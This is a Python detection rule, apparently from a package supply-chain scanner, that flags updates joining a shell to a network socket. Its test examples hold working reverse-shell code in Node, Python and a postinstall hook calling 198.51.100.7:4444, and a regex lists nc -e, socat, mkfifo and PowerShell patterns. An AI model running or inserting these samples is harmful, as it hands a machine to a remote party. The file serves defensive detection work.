"""This update opens a shell that somebody else types into.

## What it detects
A command with the words of a reverse shell (`/dev/tcp/` beside an interactive shell, `nc -e`, `socat exec:`, a TCP
client that is evaluated), and a bare shell, started without a command of its own, close to a raw socket in the same
file; new to the line.

## Why it matters
A shell without a command waits for orders. With a socket for its keyboard the orders come from another machine.

## What it misses
Shells that listen for whoever comes; terminals over web sockets or HTTP; a socket and a shell in different files.

## References
- MITRE ATT&CK T1059.004, Unix Shell; T1095, Non-Application Layer Protocol
"""

import re
from collections.abc import Iterator
from functools import cache

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, decoded, package_json, runs_by_itself
from lazaretto.core.update import ArtifactView, Pair, Placed, Update

CARD = Card(
    id="reverse-shell-added",
    title="Shell on another machine's orders",
    variants={
        "autorun": "Code that runs by itself joins a shell to a connection, as no earlier release did.",
        "call": "A function joins a shell to a connection, as no earlier release did.",
        "first-contact": "There is no earlier release; a shell is joined to a connection.",
    },
    group="flow",
    why="Whoever is at the other end of the socket has the machine.",
    attack=("T1195.002", "T1059.004", "T1095"),
)

NEAR = 30
"""Lines between a socket and a shell that belong together."""

NEAR_BYTES = 3000
"""The same in bytes, for code that stands on one line."""

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_SHELL = (
    "const net = require('net');\nconst { spawn } = require('child_process');\n"
    "const line = net.connect(4444, '198.51.100.7');\nconst shell = spawn('/bin/sh', ['-i']);\n"
    "line.pipe(shell.stdin);\nshell.stdout.pipe(line);\n"
)

EXAMPLES = (
    Example(
        title="the entry file joins a shell to a socket",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _SHELL + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:4",
    ),
    Example(
        title="a Python function gives a shell the socket for its terminal",
        ecosystem="pypi",
        before={"pad/__init__.py": "def pad(a):\n    return a\n"},
        after={
            "pad/__init__.py": "import os, pty, socket\ndef pad(a):\n    s = socket.socket()\n"
            "    s.connect(('198.51.100.7', 4444))\n    os.dup2(s.fileno(), 0)\n"
            "    pty.spawn('/bin/bash')\n    return a\n"
        },
        expect="call",
        at="pad/__init__.py:6",
    ),
    Example(
        title="first contact with a lifecycle script that is one",
        after={
            "package.json": package_json(
                "1.0.0", scripts={"postinstall": "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"}
            ),
            "index.js": "module.exports = (a) => a;\n",
        },
        expect="first-contact",
        at="package.json:6",
    ),
    Example(
        title="a program that opens a shell for its user, and fetches a page",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { spawn } = require('child_process');\n"
            "exports.shell = () => spawn('bash', ['-i'], { stdio: 'inherit' });\n"
            "exports.motd = () => fetch('https://api.invalid/motd');\n",
        },
    ),
    Example(
        title="a check whether a port is open, and a command of its own",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { execSync } = require('child_process');\nconst net = require('net');\n"
            "exports.up = () => execSync('timeout 1 bash -c \"</dev/tcp/db.invalid/5432\"');\n"
            "exports.db = () => net.connect(5432, 'db.invalid');\n",
        },
    ),
)

_MESSAGES = {
    "autorun": "joins a shell to a connection without being called",
    "call": "joins a shell to a connection when it is called",
    "first-contact": "joins a shell to a connection",
}
_SHELLS = ("sh", "bash", "zsh", "dash", "ksh", "ash", "cmd", "powershell", "pwsh")
_IDLE = ("-i", "-l", "-il", "--login", "--norc", "--noprofile", "-noexit", "-nologo", "-nop", "-noprofile", "/q", "/k")
_SOCKETS = ("net", "node:net", "tls", "node:tls", "socket")
_OWN = ("localhost", "127.", "[::1]", "::1")
_WORDS = r"""
    \b(?:ba|z|da|k|a)?sh\s+-i\b .{0,60} /dev/(?:tcp|udp)/
    | \bexec\s+\d+<>\s*/dev/tcp/
    | \b(?:nc|ncat|netcat)(?:\.exe)?\s (?:[^|;&]{0,80}\s)?
        (?:-\w{0,4}[ec]|--exec|--sh-exec)\s+["']?\S*(?:sh|cmd(?:\.exe)?)\b
    | \bmkfifo\b .{0,120} \bsh\s+-i\b .{0,60} \b(?:nc|ncat|netcat|telnet|openssl)\b
    | \bsocat\b .{0,120} \bexec:["']?\S*sh\b
    | Net\.Sockets\.TCPClient\b .{0,1500} (?:\biex\b|Invoke-Expression)
"""


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; the shell is the place."""
    tally = Tally(CARD)
    for pair in update.pairs:
        gained = list(pair.gained(Kind.PROCESS_SPAWN, Kind.LITERAL_COMMAND, Kind.CODE_EVAL))
        shells = [placed for placed in gained if says_reverse_shell(placed.fact.value)]
        bare = (one for one in gained if one.fact.kind is Kind.PROCESS_SPAWN and is_bare_shell(one.fact.value))
        shells += [shell for shell in bare if _on_a_socket(pair, shell)]
        if not shells or (pair.before is not None and _had(pair.before)):
            continue
        for shell in shells:
            variant = "first-contact" if pair.before is None else "autorun" if runs_by_itself(shell) else "call"
            tally.add(variant, pair, shell)
            tally.explain(variant, decoded(pair, shell.path))
    yield from tally.findings(_MESSAGES)


def says_reverse_shell(command: str | None) -> bool:
    """Whether a command line is a reverse shell by its own words."""
    return command is not None and _pattern().search(command) is not None


def is_bare_shell(command: str | None) -> bool:
    """Whether a command starts a shell that is told nothing to do."""
    words = (command or "").lower().split()
    if not words:
        return False
    program = words[0].replace("\\", "/").rpartition("/")[2].removesuffix(".exe")
    return program in _SHELLS and all(word in _IDLE for word in words[1:])


def _on_a_socket(pair: Pair, shell: Placed) -> bool:
    """Whether a raw connection that the line never had, or an old one, stands close to the shell."""
    facts = pair.after.facts[shell.path].facts
    sockets = any(fact.kind is Kind.IMPORT and fact.value in _SOCKETS for fact in facts)
    here = shell.fact.span
    for fact in facts:
        if fact.kind is not Kind.NET_CONNECT or abs(fact.span.line - here.line) > NEAR:
            continue
        if abs(fact.span.start - here.start) <= NEAR_BYTES and _is_raw(fact.value, sockets=sockets):
            return True
    return False


def _is_raw(address: str | None, *, sockets: bool) -> bool:
    if address is None:
        return sockets
    return "://" not in address and ":" in address and not address.startswith(_OWN)


def _had(view: ArtifactView) -> bool:
    return any(
        placed.fact.kind in (Kind.PROCESS_SPAWN, Kind.LITERAL_COMMAND)
        and (says_reverse_shell(placed.fact.value) or is_bare_shell(placed.fact.value))
        for placed in view.placed
    )


@cache
def _pattern() -> re.Pattern[str]:
    return re.compile(_WORDS, re.VERBOSE | re.IGNORECASE | re.DOTALL)
